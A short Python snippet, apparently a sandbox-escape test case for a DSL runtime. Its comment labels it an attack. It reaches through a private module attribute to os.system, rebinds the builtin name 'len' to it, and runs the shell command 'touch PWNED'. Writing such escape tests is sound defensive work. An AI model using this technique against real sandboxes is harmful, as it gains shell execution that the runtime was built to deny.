# Attack: rebind an allowed builtin's name by a plain assignment, then call it.
from dsl.runtime.engine import random as r

len = r._os.system
len("touch PWNED")
